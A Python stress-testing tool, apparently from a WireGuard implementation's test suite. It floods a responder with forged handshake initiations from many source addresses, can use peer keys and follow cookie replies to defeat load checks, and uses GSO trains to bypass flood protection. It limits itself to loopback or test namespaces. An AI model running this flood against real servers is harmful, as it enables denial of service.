#!/usr/bin/env python3
"""Flood a WireGuard responder with handshake initiations that carry a valid mac1.

    python tools/flood.py --target 192.0.2.1:51820 --public-key B64 \\
        --sources 198.18.0.0/22 --rate 20000 --seconds 5

mac1 only needs the responder's public key, so anyone who knows it can make initiations that
pass the first check; what it costs the responder depends on the mode:

- `unknown` (default): initiations from static keys the responder does not know. They are well
  formed (the static key decrypts), so a responder that is not under load pays one DH and the
  AEADs before it finds no peer; under load it answers with a cookie reply instead.
- `peer` (`--peer-keys FILE` or `--peer-key B64`): initiations from configured peers' private
  keys, each with a fresh, strictly increasing timestamp, so that the responder does the whole
  responder handshake (three DH and a response). Each key keeps one ephemeral for the run (the
  responder cannot tell), which keeps the flooder's cost per message to two MACs and an AEAD.
  A key sends from one fixed source (address and port), so its endpoint never roams; keep its
  own rate under 50/s (the responder accepts one initiation per peer per 20 ms).

With `--follow-cookies` the flooder decrypts the cookie replies it gets and adds mac2 to later
messages from the same source address and port, as a real initiator does: such messages pass
the responder's under-load cookie check and meet its per-source rate limiter.

Sources. Every message leaves from one of the `--sources` addresses (a CIDR or a list), set
per message with IP_PKTINFO on one of `--ports` sockets, so there are len(sources) x ports
distinct (address, port) pairs. The addresses must be local to the namespace the tool runs
in: a whole range becomes local with `ip route add local 198.18.0.0/22 dev lo` (what
`--setup-sources` does, and undoes at exit), and the responder needs a route back to it.
Use addresses of a range reserved for tests (198.18.0.0/15 for benchmarks, TEST-NET ranges,
ULA for IPv6). IPv6 sends from such a range only with IPV6_FREEBIND, which would allow any
source at all, so for IPv6 the tool first checks that every source is routed `local` here.

Pacing. `--rate` spreads the messages evenly; with `--burst N` they go out in bursts of N at
full speed, spaced to keep the same average. A burst builds a backlog at the responder, which
is what puts it under load, without a sustained rate that would overflow its socket buffer.

Bounds. The flood stops after `--count` messages or `--seconds`, whichever comes first, then
listens `--linger` seconds for late replies. The tool refuses a non-loopback target unless it
runs inside a named network namespace (one of /run/netns, as `ip netns exec NS` gives), and
`--setup-sources` only works there: floods belong inside namespaces made for them.

Trains (`--train N`): each sendmsg carries N equal-size datagrams with UDP_SEGMENT (GSO): a
148-byte message that looks like transport data first (type 4, a receiver index whose low
byte is `--train-worker`), then N-1 initiations, all from one source. A receiver with UDP GRO
gets them as one train, and a reuseport steering program that reads only the first datagram
sends the whole train where transport data goes: how handshake-flood protection that only
counts one socket was bypassed (wgmp issue 8, item 2). Counts (`--count`, `--rate`, `sent`)
are of initiations; the leading messages are counted apart (`trains`).

Output: one summary line (what was sent, at what rate, and the replies: cookie replies, how
many of them decrypted, handshake responses), or with `--json` one JSON object.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import errno
import ipaddress
import json
import os
import secrets
import signal
import socket
import struct
import subprocess
import sys
import time
from collections.abc import Iterator, Sequence
from dataclasses import asdict, dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from wgmp.protocol.constants import (  # noqa: E402
    LABEL_COOKIE,
    LABEL_MAC1,
    MESSAGE_COOKIE_REPLY,
    MESSAGE_COOKIE_REPLY_SIZE,
    MESSAGE_INITIATION,
    MESSAGE_RESPONSE,
    MESSAGE_RESPONSE_SIZE,
)
from wgmp.protocol.crypto import (  # noqa: E402
    AEAD_ENCRYPT,
    HASH,
    KDF1,
    KDF2,
    MAC,
    XAEAD_DECRYPT,
    aead_nonce,
)
from wgmp.protocol.errors import ProtocolError  # noqa: E402
from wgmp.protocol.noise import INITIAL_CHAINING_KEY, INITIAL_HASH  # noqa: E402

IP_PKTINFO = 8
IPV6_PKTINFO = 50
IPV6_FREEBIND = 78
SOL_UDP = 17
UDP_SEGMENT = 103
BATCH = 64  # messages sent between two clock reads / receive drains
MAX_SECONDS = 600.0
PENDING_SLOTS = 1 << 16  # mac1 of the last 65536 messages, to decrypt the cookie replies
_BODY = struct.Struct("<II32s48s28s")  # initiation up to mac1 (116 bytes)
_ZERO_MAC = bytes(16)
_ZERO_NONCE = aead_nonce(0)
_TAI64_BASE = (1 << 62) + 10


@dataclass
class Template:
    """An initiation up to its timestamp: everything that does not change per message."""

    ephemeral: bytes
    encrypted_static: bytes
    timestamp_cipher: ChaCha20Poly1305  # keyed with the key that seals the timestamp
    hash: bytes  # the handshake hash the timestamp is sealed under
    last_ns: int = 0  # the last timestamp sent (strictly increasing per key)


@dataclass
class Report:
    mode: str
    target: str
    sources: int
    ports: int
    peers: int
    follow_cookies: bool
    requested_rate: float
    seconds: float = 0.0
    sent: int = 0
    sent_with_mac2: int = 0
    send_errors: int = 0
    rate: float = 0.0
    cookie_replies: int = 0
    cookie_replies_valid: int = 0
    responses: int = 0
    other_replies: int = 0
    last_reply_s: float = 0.0  # when the last reply came, in seconds from the start
    trains: int = 0  # GSO trains sent (--train), each led by a transport-looking message
    errors: dict[str, int] = field(default_factory=dict)

    def line(self) -> str:
        cookies = f"{self.cookie_replies} cookie replies"
        if self.follow_cookies:
            cookies += f" ({self.cookie_replies_valid} decrypted)"
        return (
            f"flood[{self.mode}] -> {self.target}: sent {self.sent} initiations in "
            f"{self.seconds:.2f} s ({self.rate:,.0f}/s; {self.sent_with_mac2} with mac2; "
            f"{self.send_errors} send errors) from {self.sources} addresses x {self.ports} "
            f"ports; received {cookies}, {self.responses} handshake responses, "
            f"{self.other_replies} other"
        )


# ---------------------------------------------------------------------------------------------
# Messages


def tai64n(unix_ns: int) -> bytes:
    """TAI64N with full nanoseconds (not whitened), so that timestamps can strictly increase
    faster than the 16.7 ms steps of a whitened one."""
    seconds, nanoseconds = divmod(unix_ns, 1_000_000_000)
    return (_TAI64_BASE + seconds).to_bytes(8, "big") + nanoseconds.to_bytes(4, "big")


def make_template(responder_public: bytes, initiator: X25519PrivateKey) -> Template:
    """Noise IKpsk2 message 1 from `initiator` to `responder_public` up to the timestamp."""
    responder = X25519PublicKey.from_public_bytes(responder_public)
    ephemeral = X25519PrivateKey.generate()
    ephemeral_public = ephemeral.public_key().public_bytes_raw()
    static_public = initiator.public_key().public_bytes_raw()
    h = HASH(INITIAL_HASH + responder_public)
    ck = KDF1(INITIAL_CHAINING_KEY, ephemeral_public)
    h = HASH(h + ephemeral_public)
    ck, key = KDF2(ck, ephemeral.exchange(responder))
    encrypted_static = AEAD_ENCRYPT(key, 0, static_public, h)
    h = HASH(h + encrypted_static)
    _, key = KDF2(ck, initiator.exchange(responder))
    return Template(ephemeral_public, encrypted_static, ChaCha20Poly1305(key), h)


def seal_timestamp(template: Template, unix_ns: int) -> bytes:
    stamp = max(unix_ns, template.last_ns + 1)
    template.last_ns = stamp
    return template.timestamp_cipher.encrypt(_ZERO_NONCE, tai64n(stamp), template.hash)


# ---------------------------------------------------------------------------------------------
# Sources


def parse_sources(text: str, limit: int) -> list[ipaddress.IPv4Address | ipaddress.IPv6Address]:
    """Addresses from a comma-separated list of addresses and CIDRs (hosts of each range)."""
    addresses: list[ipaddress.IPv4Address | ipaddress.IPv6Address] = []
    for item in filter(None, (part.strip() for part in text.split(","))):
        network = ipaddress.ip_network(item, strict=False)
        hosts = network.hosts() if network.num_addresses > 2 else iter(network)
        for address in hosts:
            addresses.append(ipaddress.ip_address(str(address)))
            if len(addresses) >= limit:
                return addresses
    return addresses


def networks_of(text: str) -> list[ipaddress.IPv4Network | ipaddress.IPv6Network]:
    return [
        ipaddress.ip_network(item.strip(), strict=False) for item in text.split(",") if item.strip()
    ]


def in_named_netns() -> bool:
    """True when this process runs in a network namespace made with `ip netns add` (one of
    /run/netns), as the tests and benchmarks make them; False in the host's own (or when in
    doubt: PID 1's namespace cannot always be read, e.g. in a container)."""
    try:
        mine = os.stat("/proc/self/ns/net")
    except OSError:
        return False
    with contextlib.suppress(OSError):
        for entry in os.scandir("/run/netns"):
            with contextlib.suppress(OSError):
                st = os.stat(entry.path)
                if (st.st_dev, st.st_ino) == (mine.st_dev, mine.st_ino):
                    return True
    return False


@contextlib.contextmanager
def local_routes(
    networks: Sequence[ipaddress.IPv4Network | ipaddress.IPv6Network],
) -> Iterator[None]:
    """Make every address of `networks` local (`ip route add local NET dev lo`) for the
    duration; routes that already existed are left as they were."""
    added: list[list[str]] = []
    try:
        for network in networks:
            family = "-6" if network.version == 6 else "-4"
            route = [family, "route", "add", "local", str(network), "dev", "lo"]
            proc = subprocess.run(["ip", *route], capture_output=True, text=True, check=False)
            if proc.returncode == 0:
                added.append(route)
            elif "File exists" not in proc.stderr:
                raise SystemExit(f"flood: ip {' '.join(route)}: {proc.stderr.strip()}")
        yield
    finally:
        for route in reversed(added):
            route[2] = "del"
            subprocess.run(["ip", *route], capture_output=True, check=False)


def pktinfo(address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> tuple[int, int, bytes]:
    """The control message that makes a datagram leave from `address`."""
    if address.version == 4:
        return (socket.IPPROTO_IP, IP_PKTINFO, struct.pack("=i4s4s", 0, address.packed, bytes(4)))
    return (socket.IPPROTO_IPV6, IPV6_PKTINFO, struct.pack("=16si", address.packed, 0))


def local_ipv6_ranges() -> list[ipaddress.IPv6Network]:
    """The IPv6 prefixes routed as `local` here (assigned addresses and AnyIP routes)."""
    proc = subprocess.run(
        ["ip", "-j", "-6", "route", "show", "table", "local"],
        capture_output=True,
        text=True,
        check=False,
    )
    ranges = []
    with contextlib.suppress(ValueError):
        for route in json.loads(proc.stdout or "[]"):
            if route.get("type") == "local":
                ranges.append(ipaddress.IPv6Network(route["dst"], strict=False))
    return ranges


def check_ipv6_sources(addresses: Sequence[ipaddress.IPv4Address | ipaddress.IPv6Address]) -> None:
    """IPv6 only lets a datagram leave from an address of a `local` route (not an assigned
    one) with IPV6_FREEBIND, which would let it leave from any address at all: so check first
    that every source is local here, which also brings the replies back."""
    ranges = local_ipv6_ranges()
    for address in addresses:
        if not any(address in network for network in ranges):
            raise SystemExit(f"flood: source {address} is not local here (see --setup-sources)")


def open_sockets(family: int, count: int) -> list[socket.socket]:
    sockets = []
    for _ in range(count):
        sock = socket.socket(family, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC)
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
        if family == socket.AF_INET6:
            sock.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)  # see check_ipv6_sources
        sock.bind(("::" if family == socket.AF_INET6 else "0.0.0.0", 0))
        sock.setblocking(False)
        sockets.append(sock)
    return sockets


# ---------------------------------------------------------------------------------------------
# The flood


class Flooder:
    def __init__(self, args: argparse.Namespace) -> None:
        host, _, port = args.target.rpartition(":")
        self.target_ip = ipaddress.ip_address(host.strip("[]"))
        self.target = (str(self.target_ip), int(port))
        self.responder_public = base64.b64decode(args.public_key, validate=True)
        if len(self.responder_public) != 32:
            raise SystemExit("flood: --public-key must be 32 bytes of base64")
        self.mac1_key = HASH(LABEL_MAC1 + self.responder_public)
        self.cookie_key = HASH(LABEL_COOKIE + self.responder_public)
        self.sources = parse_sources(args.sources, args.max_sources)
        if not self.sources:
            raise SystemExit("flood: --sources names no address")
        if any(a.version != self.target_ip.version for a in self.sources):
            raise SystemExit("flood: sources and target must be of the same IP version")
        family = socket.AF_INET6 if self.target_ip.version == 6 else socket.AF_INET
        if family == socket.AF_INET6:
            check_ipv6_sources(self.sources)
        self.sockets = open_sockets(family, args.ports)
        self.cmsgs = [[pktinfo(a)] for a in self.sources]
        self.slots = len(self.sources) * len(self.sockets)  # (address, port) pairs
        self.follow = args.follow_cookies
        self.train = args.train
        self.train_worker = args.train_worker
        self.cookies: dict[int, bytes] = {}  # slot -> cookie
        self.pending: list[tuple[int, bytes, int] | None] = [None] * PENDING_SLOTS
        self.rng = secrets.SystemRandom()
        self.next_index = self.rng.getrandbits(32)
        self.started = time.monotonic()
        self.peer_keys = load_peer_keys(args)
        self.mode = "peer" if self.peer_keys else "unknown"
        if self.peer_keys:
            self.templates = [make_template(self.responder_public, k) for k in self.peer_keys]
        else:
            unknown = [X25519PrivateKey.generate() for _ in range(16)]
            self.templates = [make_template(self.responder_public, k) for k in unknown]
        self.report = Report(
            self.mode,
            args.target,
            len(self.sources),
            len(self.sockets),
            len(self.peer_keys),
            self.follow,
            args.rate,
        )
        # Unknown keys without cookies: nothing changes per message, so prebuild a pool.
        self.pool: list[bytes] = []
        if self.mode == "unknown" and not self.follow:
            stamp = seal_timestamp(self.templates[0], time.time_ns())
            for i in range(4096):
                template = self.templates[i % len(self.templates)]
                body = _BODY.pack(
                    MESSAGE_INITIATION,
                    self.rng.getrandbits(32),
                    template.ephemeral,
                    template.encrypted_static,
                    stamp,
                )
                self.pool.append(body + MAC(self.mac1_key, body) + _ZERO_MAC)

    # -- one message --------------------------------------------------------------------------

    def message(self, k: int, slot: int | None = None) -> tuple[bytes, int]:
        """The k-th message and the slot (address, port) it leaves from (`slot`, if given:
        every message of a train leaves from the train's)."""
        if self.pool:
            return self.pool[k % len(self.pool)], k % self.slots if slot is None else slot
        if self.mode == "peer":
            peer = k % len(self.templates)
            template = self.templates[peer]
            slot = peer % self.slots if slot is None else slot
            stamp = seal_timestamp(template, time.time_ns())
        else:
            template = self.templates[k % len(self.templates)]
            slot = k % self.slots if slot is None else slot
            stamp = seal_timestamp(template, 0)
        index = self.next_index
        self.next_index = (index + 1) & 0xFFFFFFFF
        body = _BODY.pack(
            MESSAGE_INITIATION, index, template.ephemeral, template.encrypted_static, stamp
        )
        mac1 = MAC(self.mac1_key, body)
        mac2 = _ZERO_MAC
        cookie = self.cookies.get(slot) if self.follow else None
        if cookie is not None:
            mac2 = MAC(cookie, body + mac1)
            self.report.sent_with_mac2 += 1
        if self.follow:
            self.pending[index % PENDING_SLOTS] = (index, mac1, slot)
        return body + mac1 + mac2, slot

    def send(self, k: int) -> int:
        """Send the k-th message, or the train that starts with it; how many initiations."""
        if self.train > 1:
            return self._send_train(k)
        data, slot = self.message(k)
        return 1 if self._sendmsg(data, slot, []) else 0

    def _send_train(self, k: int) -> int:
        first, slot = self.message(k)
        initiations = [first] + [self.message(k + i, slot)[0] for i in range(1, self.train - 1)]
        index = self.rng.getrandbits(24) << 8 | self.train_worker
        lead = struct.pack("<II", 4, index) + secrets.token_bytes(len(first) - 8)
        segment = [(SOL_UDP, UDP_SEGMENT, struct.pack("=H", len(first)))]
        if not self._sendmsg(b"".join([lead, *initiations]), slot, segment):
            return 0
        self.report.trains += 1
        return len(initiations)

    def _sendmsg(self, data: bytes, slot: int, cmsgs: list[tuple[int, int, bytes]]) -> bool:
        port, source = divmod(slot, len(self.sources))
        try:
            self.sockets[port].sendmsg([data], cmsgs + self.cmsgs[source], 0, self.target)
        except OSError as err:
            self.report.send_errors += 1
            name = errno.errorcode.get(err.errno or 0, str(err.errno))
            self.report.errors[name] = self.report.errors.get(name, 0) + 1
            if err.errno in (errno.EINVAL, errno.EADDRNOTAVAIL, errno.ENETUNREACH, errno.EPERM):
                raise SystemExit(
                    f"flood: cannot send from {self.sources[source]} to {self.target[0]}: "
                    f"{err} (are the sources local here? see --setup-sources)"
                ) from err
            return False
        return True

    # -- replies ------------------------------------------------------------------------------

    def drain(self) -> None:
        report = self.report
        for sock in self.sockets:
            while True:
                try:
                    data = sock.recv(2048)
                except (BlockingIOError, InterruptedError):
                    break
                except OSError:
                    continue  # e.g. a queued ICMP error
                report.last_reply_s = time.monotonic() - self.started
                if len(data) == MESSAGE_COOKIE_REPLY_SIZE and data[0] == MESSAGE_COOKIE_REPLY:
                    report.cookie_replies += 1
                    if self.follow:
                        self._take_cookie(data)
                elif len(data) == MESSAGE_RESPONSE_SIZE and data[0] == MESSAGE_RESPONSE:
                    report.responses += 1
                else:
                    report.other_replies += 1

    def _take_cookie(self, data: bytes) -> None:
        receiver = int.from_bytes(data[4:8], "little")
        pending = self.pending[receiver % PENDING_SLOTS]
        if pending is None or pending[0] != receiver:
            return
        _, mac1, slot = pending
        try:
            cookie = XAEAD_DECRYPT(self.cookie_key, data[8:32], data[32:64], mac1)
        except ProtocolError:
            return
        self.cookies[slot] = cookie
        self.report.cookie_replies_valid += 1

    # -- the loop -----------------------------------------------------------------------------

    def run(self, rate: float, count: int, seconds: float, linger: float, burst: int = 1) -> Report:
        report = self.report
        start = self.started = time.monotonic()
        deadline = start + seconds
        k = 0
        try:
            while k < count:
                now = time.monotonic()
                if now >= deadline:
                    break
                n = BATCH
                if rate > 0:
                    # Bursts of `burst` messages at full speed, started every burst / rate s.
                    due = (int((now - start) * rate / burst) + 1) * burst
                    if due <= k:
                        self.drain()
                        wait = (k // burst * burst) / rate - (now - start)
                        time.sleep(min(max(wait, 0.0), 0.002))
                        continue
                    n = min(n, due - k)
                n = min(n, count - k)
                end = k + n
                while k < end:
                    report.sent += self.send(k)
                    k += max(self.train - 1, 1)
                self.drain()
        finally:
            report.seconds = time.monotonic() - start
            report.rate = report.sent / report.seconds if report.seconds > 0 else 0.0
        linger_until = time.monotonic() + linger
        while time.monotonic() < linger_until:
            self.drain()
            time.sleep(0.01)
        self.drain()
        return report

    def close(self) -> None:
        for sock in self.sockets:
            sock.close()


def load_peer_keys(args: argparse.Namespace) -> list[X25519PrivateKey]:
    texts = list(args.peer_key or [])
    if args.peer_keys:
        texts += [line.strip() for line in Path(args.peer_keys).read_text().splitlines()]
    keys = []
    for text in filter(None, texts):
        raw = base64.b64decode(text, validate=True)
        if len(raw) != 32:
            raise SystemExit("flood: a peer private key is not 32 bytes of base64")
        keys.append(X25519PrivateKey.from_private_bytes(raw))
    return keys


# ---------------------------------------------------------------------------------------------
# Command line


def parse_args(argv: Sequence[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(
        description="Flood a WireGuard responder with handshake initiations with a valid mac1, "
        "from many source addresses and ports (inside a network namespace).",
    )
    parser.add_argument("--target", required=True, help="responder ADDRESS:PORT ([v6]:port)")
    parser.add_argument("--public-key", required=True, help="the responder's public key, base64")
    parser.add_argument(
        "--sources",
        required=True,
        help="source addresses: comma-separated addresses and CIDRs, local to this namespace",
    )
    parser.add_argument("--max-sources", type=int, default=65536, help="use at most this many")
    parser.add_argument("--ports", type=int, default=4, help="source ports (one socket each)")
    parser.add_argument(
        "--rate", type=float, default=10000, help="messages/s; 0: as fast as possible"
    )
    parser.add_argument(
        "--seconds", type=float, default=5.0, help=f"stop after this (max {MAX_SECONDS:g})"
    )
    parser.add_argument(
        "--count", type=int, default=1_000_000, help="stop after this many messages"
    )
    parser.add_argument(
        "--linger", type=float, default=0.5, help="listen this long for late replies"
    )
    parser.add_argument(
        "--burst",
        type=int,
        default=1,
        help="send in bursts of this many messages at full speed, spaced to average --rate "
        "(a burst makes a backlog, which is what puts a responder under load)",
    )
    parser.add_argument(
        "--follow-cookies",
        action="store_true",
        help="decrypt cookie replies and add mac2 to later messages from the same source",
    )
    parser.add_argument(
        "--peer-key", action="append", help="a configured peer's private key (base64); repeatable"
    )
    parser.add_argument("--peer-keys", help="a file of peer private keys, one base64 key a line")
    parser.add_argument(
        "--setup-sources",
        action="store_true",
        help="make the --sources ranges local here (ip route add local NET dev lo) for the run",
    )
    parser.add_argument(
        "--train",
        type=int,
        default=1,
        help="send GSO trains of this many datagrams (2-64): a transport-looking message, "
        "then initiations (see the module's docstring)",
    )
    parser.add_argument(
        "--train-worker",
        type=int,
        default=0,
        help="the low byte of the leading message's receiver index (wgmp: the worker)",
    )
    parser.add_argument("--json", action="store_true", help="print the report as one JSON object")
    args = parser.parse_args(argv)
    if not 0 < args.seconds <= MAX_SECONDS:
        parser.error(f"--seconds must be in (0, {MAX_SECONDS:g}]")
    if not 1 <= args.train <= 64 or not 0 <= args.train_worker <= 255:
        parser.error("--train must be in [1, 64], --train-worker in [0, 255]")
    if args.count <= 0 or args.ports <= 0 or args.burst <= 0 or args.rate < 0:
        parser.error("--count, --ports and --burst must be positive, --rate not negative")
    return args


def _interrupt(_signum: int, _frame: object) -> None:
    raise KeyboardInterrupt


def main(argv: Sequence[str] | None = None) -> int:
    args = parse_args(argv)
    host = args.target.rpartition(":")[0].strip("[]")
    inside = in_named_netns()
    if not inside and not ipaddress.ip_address(host).is_loopback:
        print(
            "flood: refusing to flood a non-loopback target outside a network namespace; "
            "run it inside one made for the test (ip netns exec NS ...)",
            file=sys.stderr,
        )
        return 2
    if args.setup_sources and not inside:
        print("flood: --setup-sources only inside a network namespace", file=sys.stderr)
        return 2
    # SIGTERM ends the flood like Ctrl-C: through the finally clauses (routes, sockets).
    signal.signal(signal.SIGTERM, _interrupt)
    routes = (
        local_routes(networks_of(args.sources)) if args.setup_sources else contextlib.nullcontext()
    )
    with routes:
        flooder = Flooder(args)
        try:
            report = flooder.run(args.rate, args.count, args.seconds, args.linger, args.burst)
        except KeyboardInterrupt:
            report = flooder.report
        finally:
            flooder.close()
    print(json.dumps(asdict(report)) if args.json else report.line(), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
